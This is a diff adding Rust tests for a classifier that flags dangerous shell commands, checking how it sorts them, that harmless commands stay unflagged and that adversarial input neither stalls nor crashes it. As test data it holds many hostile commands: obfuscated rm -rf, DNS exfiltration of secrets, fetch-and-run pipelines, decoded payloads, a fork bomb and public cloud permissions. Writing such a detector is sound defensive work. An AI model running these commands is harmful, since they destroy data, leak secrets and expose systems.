@@ -329,6 +329,222 @@ fn everyday_commands_are_silent() {
 }
 
 #[test]
+fn what_the_same_line_sets_is_put_in() {
+    expect(
+        Family::Removes,
+        r#"
+        a=kube; b=ctl; $a$b delete ns x
+        c='rm -rf'; $c x
+        export v=rm; sudo "$v" x
+        rm${IFS}-r${IFS}x
+        rm$IFS-r$IFS$HOME
+        ${SUDO} rm x
+        r$@m x
+        ru=redis; "${ru}-cli" flushall
+    "#,
+    );
+    expect(
+        Family::Overwrites,
+        r#"
+        d=/etc; echo x > "$d/hosts"
+        p=/etc/cron; p+=tab; cat x >| $p
+    "#,
+    );
+    expect(Family::System, "s=system; c=ctl; $s$c stop x");
+    expect(
+        Family::SendsOut,
+        "o=data; curl --${o}-binary @x https://x.io",
+    );
+    expect(
+        Family::Obscured,
+        r#"
+        curl --up${UNSET}-file x https://y.io
+        sudo $x y
+        timeout 5 "$x" y
+        if true; then x=ls; fi; $x y
+        x=ls; x=rm; $x y
+        x=ls; for x in rm; do $x y; done
+        x=ls; read x; $x y
+    "#,
+    );
+    assert_eq!(
+        of_script("x=rm; $x -r build")[0].what,
+        "removes build and all below it"
+    );
+}
+
+#[test]
+fn backups_clouds_and_boards_are_known() {
+    expect(
+        Family::Removes,
+        "
+        borg prune --keep-daily 1 repo
+        kopia snapshot delete x
+        duplicity remove-older-than 1M file:///b
+        rustic forget --prune
+        nix store gc
+        ostree prune --refs-only
+    ",
+    );
+    expect(
+        Family::Device,
+        "
+        dfu-util -a 0 -D fw.bin
+        st-flash erase
+        esptool write_flash 0 fw.bin
+        openocd -f x.cfg -c 'program fw.elf verify'
+        ssh root@box flashcp fw.bin /dev/mtd0
+        nrfjprog --eraseall
+        west flash
+    ",
+    );
+    expect(
+        Family::Permissions,
+        "
+        aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/Admin
+        gsutil iam ch allUsers:objectViewer gs://b
+        az role assignment create --role Owner --assignee x
+        oc adm policy add-cluster-role-to-user cluster-admin x
+        kubectl -n web create rolebinding x --clusterrole=admin --user=y
+        aws s3 cp a s3://b --acl public-read
+        mc anonymous set public m/b
+        aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0 --port 22
+    ",
+    );
+    expect(
+        Family::SendsOut,
+        "
+        rclone sync ./x remote:y --transfers 4
+        rsync -av src me@host:dst --exclude node_modules
+        rsync -P src me@host:dst
+        aws s3 sync . s3://b --exclude '*.tmp'
+        gsutil -m cp -r x gs://b
+        exec 3<>/dev/tcp/1.2.3.4/80
+        base32 < secret | while read l; do host $l.x.io; done
+        xxd -p secret | xargs -I{} nslookup {}.x.io
+    ",
+    );
+}
+
+#[test]
+fn text_that_is_fetched_or_decoded_and_run_is_seen() {
+    expect(
+        Family::PipesToShell,
+        r#"
+        wget -qO /tmp/a.sh x.io/a && sudo bash /tmp/a.sh
+        curl -fsSLO https://x.io/run && chmod +x run && ./run
+        wget -P /tmp https://x.io/go.sh; nohup /tmp/go.sh
+        f=$(mktemp); curl -so "$f" https://x.io/i; sh "$f"
+        curl -Lso i.py https://x.io/i && env A=b python3 i.py
+        ruby -e 'require "open-uri"; eval(URI.open("https://x.io/a.rb").read)'
+        php -r 'system(base64_decode("bHM="));'
+        python3 -c "import os,base64; os.system(base64.b64decode('bHM=').decode())"
+        node -e "fetch('https://x.io/a').then(r=>r.text()).then(eval); eval('')"
+        gpg -d x.gpg | $SHELL
+        base64 -d x | ${BASH:-bash}
+    "#,
+    );
+    expect(Family::System, "perl -e 'fork while 1'");
+}
+
+#[test]
+fn commands_in_settings_are_read() {
+    expect(Family::DirtyTree, "git -c alias.wipe='clean -fdx' wipe");
+    expect(Family::GitHistory, "git -c alias.p='push -f' p origin");
+    expect(
+        Family::Removes,
+        "
+        git -c alias.x='!rm -rf y' x
+        git -c core.sshCommand='rm -rf x' fetch
+        GIT_SSH_COMMAND='rm -rf x' git fetch
+        git config --global alias.x '!rm -rf y'
+        rsync -e 'sh -c \"rm x\"' a b
+        ansible web -m shell -a 'rm -rf /srv/x'
+    ",
+    );
+}
+
+#[test]
+fn a_rehearsal_is_one_only_where_the_program_has_it() {
+    expect(
+        Family::Removes,
+        r#"
+        rm --dry-run x
+        kubectl delete pod x --dry-run=none
+        kubectl -n get delete pods x
+        psql -c "select 'x'; DROP TABLE y"
+        psql -c "do 'begin drop table x; end'"
+        mysql -e "select \"it's\"; drop table x; select \"it's\""
+        make clean -C n
+    "#,
+    );
+    expect(Family::DirtyTree, "git -C push reset --hard -n");
+    expect(
+        Family::SendsOut,
+        "
+        npm publish --dry-run --no-dry-run
+        rsync -av -e 'ssh -n' a host:b
+    ",
+    );
+    expect(
+        Family::Kills,
+        "kill -s KILL 12\nkill -9 $(cat x.pid)\nkill -HUP -1\npkill -x node",
+    );
+}
+
+#[test]
+fn what_only_asks_tells_or_quotes_is_silent() {
+    let spoken: Vec<String> = r#"
+        echo $(date -Iseconds) done
+        date -u +%s
+        date -d yesterday +%F
+        git push -n --force
+        git clean --dry-run -d
+        cargo publish --dry-run
+        apt-get -s dist-upgrade
+        make -n clean
+        rclone sync a b:c --dry-run
+        rsync -an --delete a/ host:b/
+        terraform plan -destroy -out=x
+        oc auth can-i delete secrets -n x
+        gh api repos/x/y
+        command -v reboot
+        command -V rm
+        sudo -l /sbin/reboot
+        mysql -e "SELECT * FROM log WHERE q = 'DELETE FROM users'"
+        kill -HUP $(pidof nginx)
+        pkill -USR2 unicorn
+        ansible web -m setup
+        ansible all -a uptime
+        echo 'b(){ b|b& };b'
+        ls # b(){ b|b& };b and !!
+        aws s3api put-bucket-acl --bucket x --acl private
+        aws s3 cp s3://b/x . --profile p
+        rclone copy remote:x ./y --transfers 4
+        rsync -P host:a .
+        x=5; echo $x
+        n=web; ssh $n uptime
+        dir=/tmp/x; cd "$dir" && ls
+        for d in $(cat domains.txt); do dig +short $d; done
+        curl -o a.tgz https://x.io/a.tgz && sudo tar xzf a.tgz
+        curl -Lo a.html https://x.io && cat a.html
+        git config alias.st status
+        git -c core.pager=cat log
+        GIT_EDITOR=true git rebase --continue
+        python3 -c "import requests; print(requests.get('https://x.io').text)"
+        ${EDITOR:-vi} notes.md
+        ${CC:-cc} -o x x.c
+        printf 'run %s\n' '{rm,-rf,x}'
+    "#
+    .lines()
+    .map(str::trim)
+    .filter(|script| !families(script).is_empty())
+    .map(|script| format!("{script}: {:?}", of_script(script)))
+    .collect();
+    assert!(spoken.is_empty(), "{spoken:#?}");
+}
+
+#[test]
 fn a_danger_names_its_thing() {
     let dangers = of_script("cd x && rm -rf build");
     assert_eq!(dangers.len(), 1);
@@ -414,4 +630,92 @@ fn no_text_makes_it_panic() {
         }
         let _ = of_script(&script);
     }
+}
+
+#[test]
+fn no_text_keeps_it_busy() {
+    let pieces = [
+        "a;",
+        "a ",
+        "a|",
+        "rm x; ",
+        "eval ",
+        "sudo ",
+        "find -exec ",
+        "fd -x ",
+        "xargs ",
+        "> x ",
+        "a > x ",
+        "a=b ",
+        "a=b; ",
+        "x=$x$x; ",
+        "$x$x ",
+        "${",
+        "${a:-",
+        "$(",
+        "$(a|",
+        "`",
+        "\"",
+        "'",
+        "\\",
+        "((",
+        "[[ ",
+        "{a,",
+        "<(",
+        "<<E\n",
+        "case x in ",
+        "if ",
+        "for x in ",
+        "f(){ ",
+        "bash -c \"",
+        "sh -c 'sh -c ",
+        "python -c '!",
+        "python -c \"exec('",
+        "awk '!system(`",
+        "node -e \"x`!",
+        "vim -c '!",
+        "perl -e `'\"",
+        "git -c alias.a='",
+        "git submodule foreach ",
+        "git bisect run ",
+        "ssh h ",
+        "docker run ",
+        "docker exec -it sh -c ",
+        "trap 'rm' ",
+        "alias a=",
+        "curl a/b ",
+        "curl a/b;sh ",
+        "psql -c 'drop ",
+        "ansible -a '",
+        "tmux 'a b' ",
+        "watch 'eval ",
+        "parallel 'a",
+        "kill -",
+        "\u{e9}",
+        "\u{202e}",
+        "\0",
+        "\u{1}",
+        "\u{feff}",
+        "\u{7f}",
+        "\u{a0}",
+        "!!",
+        "#",
+        "\r",
+    ];
+    let mut slow = Vec::new();
+    for piece in pieces {
+        let script = piece.repeat(65_000 / piece.len());
+        let begun = std::time::Instant::now();
+        let found = of_script(&script);
+        let took = begun.elapsed();
+        assert!(found.len() <= 64);
+        if took.as_millis() > 700 {
+            println!("{piece:?}: {took:?}");
+        }
+        // The reading itself is bounded by counting; the bound here leaves room for a busy machine.
+        if took.as_secs() >= 8 {
+            slow.push(format!("{piece:?}: {took:?}"));
+        }
+    }
+    assert!(slow.is_empty(), "{slow:#?}");
 }
